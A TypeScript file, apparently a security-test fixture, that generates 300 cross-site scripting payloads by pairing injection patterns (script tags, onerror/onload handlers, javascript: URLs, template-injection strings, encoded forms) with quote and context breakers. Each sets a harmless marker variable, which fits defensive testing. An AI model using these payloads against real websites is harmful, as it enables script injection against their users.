/** What a browser would execute if it treated a text as HTML. Each sets a variable that the campaign watches. */
const RUN = "window.ran=1";
const QUOTES = ["", "'", '"', "`", "-->", "]]>", "*/", "</title>", "</textarea>", "</script>", "\\'", "&quot;"];

const WAYS: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<ScRiPt >${run}</sCrIpT>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<img/src=x/onerror=${run}//`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<body onload=${run}>`,
  () => '<iframe srcdoc="<script>parent.ran=1</script>">',
  () => '<iframe src="javascript:parent.ran=1"></iframe>',
  (run) => `<a href="javascript:${run}">link</a>`,
  (run) => `<details open ontoggle=${run}>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<video><source onerror=${run}></video>`,
  (run) => `<math><mtext><img src=x onerror=${run}>`,
  (run) => `<style>@import'x';</style><img src=x onerror=${run}>`,
  (run) => `<object data="javascript:${run}">`,
  (run) => `<form action="javascript:${run}"><button autofocus>`,
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `\${${run}}`,
  (run) => `<base href="javascript:/"><a href="${run}">`,
  (run) => `javascript:${run}//<svg onload=${run}>`,
  (run) => `%3Cscript%3E${run}%3C/script%3E`,
  (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
  (run) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  (run) => `<template><script>${run}</script></template>`,
];

/** Three hundred of them, each at most as long as a listing's title. */
export const SCRIPT_PAYLOADS: readonly string[] = WAYS.flatMap((way) => QUOTES.map((quote) => `${quote}${way(RUN)}`));
